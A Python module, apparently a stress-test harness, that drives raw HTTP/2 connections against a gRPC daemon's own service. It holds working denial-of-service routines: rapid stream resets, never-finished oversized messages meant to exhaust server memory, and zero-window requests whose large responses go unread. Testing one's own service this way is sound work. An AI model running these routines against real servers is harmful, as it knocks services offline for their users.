"""Callers on bare HTTP/2 connections, for behaviour that client libraries do not allow."""

import contextlib
import socket
import time
from collections import Counter
from collections.abc import Iterator, Sequence
from typing import Final, NamedTuple

import h2.config
import h2.connection
import h2.events
import h2.exceptions
import h2.settings

SERVICE: Final = "/purgatory.v1.PurgatoryService/"
MEGABYTE: Final = 1024 * 1024


class Target(NamedTuple):
    """The daemon to attack, and the duration."""

    grpc: str
    """Address of gRPC, host:port."""
    seconds: float
    token: str
    """The attacker's token; empty: none."""


class RawConnection:
    """One connection. It reads and discards all data except flow-control windows and the ends of streams."""

    def __init__(self, address: str, token: str, *, initial_window: int | None = None) -> None:
        host, _, port = address.rpartition(":")
        self._socket: Final = socket.create_connection((host, int(port)), 10.0)
        self._token: Final = token
        self.http2: Final = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
        self.http2.initiate_connection()
        if initial_window is not None:
            self.http2.update_settings({h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: initial_window})
        self.ended: Final[set[int]] = set()
        """Streams that the server has ended."""
        self._pings = 0
        self.flush()

    def call(self, method: str, **headers: str) -> int:
        """Open a stream for a call and return its id."""
        stream = self.http2.get_next_available_stream_id()
        fields = [
            (":method", "POST"), (":scheme", "http"), (":path", SERVICE + method), (":authority", "purgatory"),
            ("te", "trailers"), ("content-type", "application/grpc"),
        ]  # fmt: skip
        if self._token:
            fields.append(("authorization", f"Bearer {self._token}"))
        self.http2.send_headers(stream, fields + list(headers.items()))
        return stream

    def send(self, stream: int, data: bytes) -> int:
        """Send as much as the server's windows allow; return the number of bytes."""
        room = min(len(data), self.http2.local_flow_control_window(stream), self.http2.max_outbound_frame_size)
        if room > 0:
            self.http2.send_data(stream, data[:room])
        return max(0, room)

    def flush(self) -> None:
        self._socket.sendall(self.http2.data_to_send())

    def read(self, timeout_s: float) -> None:
        """Process received frames: windows grow, streams end."""
        self._socket.settimeout(timeout_s)
        with contextlib.suppress(TimeoutError):
            data = self._socket.recv(1 << 16)
            if not data:
                raise ConnectionError("the server has closed the connection")
            for event in self.http2.receive_data(data):
                if isinstance(event, h2.events.StreamEnded | h2.events.StreamReset):
                    self.ended.add(int(event.stream_id or 0))
                self._pings += isinstance(event, h2.events.PingAckReceived)
            self.flush()

    def until_read(self) -> None:
        """Wait until the server has read everything that was sent."""
        pings = self._pings
        self.http2.ping(bytes(8))
        self.flush()
        while self._pings == pings:
            self.read(10.0)

    def close(self) -> None:
        self._socket.close()


def message(length: int, body: bytes = b"", *, compressed: bool = False) -> bytes:
    """A gRPC message with a length field of `length` bytes, and as much of it as `body` has."""
    return bytes((compressed,)) + length.to_bytes(4, "big") + body


def until(deadline_s: float) -> Iterator[None]:
    while time.monotonic() < deadline_s:
        yield


def rapid_reset(target: Target) -> Counter[str]:
    """Open streams and reset each immediately, on one connection; reconnect when it is closed."""
    connection, done = RawConnection(target.grpc, target.token), Counter[str]()
    for _ in until(time.monotonic() + target.seconds):
        for _ in range(200):
            stream = connection.call("Wait")
            connection.http2.reset_stream(stream)
        done["resets"] += 200
        try:
            connection.flush()
            connection.read(0.001)
        except OSError:
            connection.close()
            connection = RawConnection(target.grpc, target.token)
            done["closed"] += 1
    connection.close()
    return done


def unfinished_messages(
    target: Target, *, length: int, streams: int, firsts: Sequence[tuple[str, bytes]]
) -> Counter[str]:
    """Send everything except the end of a message of `length` bytes on each of many streams.

    `firsts`: methods, used in turn, each with the message to send before the large one; b"": none.
    """
    connections = [RawConnection(target.grpc, target.token) for _ in range(5)]
    open_streams = []
    left: dict[tuple[int, int], int] = {}
    for number in range(streams):
        connection, (method, first) = connections[number % 5], firsts[number % len(firsts)]
        stream = connection.call(method)
        open_streams.append((connection, stream))
        if first:
            whole = first.replace(b"NUMBER", f"{number:06}".encode())
            connection.send(stream, message(len(whole), whole))
        connection.send(stream, message(length))
        left[id(connection), stream] = length - 1
    filler, taken = bytes(1 << 14), 0
    for _ in until(time.monotonic() + target.seconds):
        for connection, stream in open_streams:
            rest = left[id(connection), stream]
            if rest and stream not in connection.ended:
                with contextlib.suppress(h2.exceptions.ProtocolError):
                    sent = connection.send(stream, filler[:rest])
                    left[id(connection), stream] -= sent
                    taken += sent
        # A server that is short of memory stops reading or closes the connection; the bytes until then are the result.
        with contextlib.suppress(OSError):
            for connection in connections:
                connection.flush()
                connection.read(0.001)
    for connection in connections:
        connection.close()
    return Counter(taken_mb=taken // MEGABYTE)


def unread_answers(target: Target, *, calls: int, method: str, request: bytes) -> Counter[str]:
    """Request large responses with a flow-control window of 0, and never read them."""
    connection = RawConnection(target.grpc, target.token, initial_window=0)
    for _ in range(calls):
        stream = connection.call(method)
        connection.send(stream, message(len(request), request))
        connection.http2.end_stream(stream)
    connection.flush()
    for _ in until(time.monotonic() + target.seconds):
        connection.read(0.05)
    connection.close()
    return Counter(unread=calls)
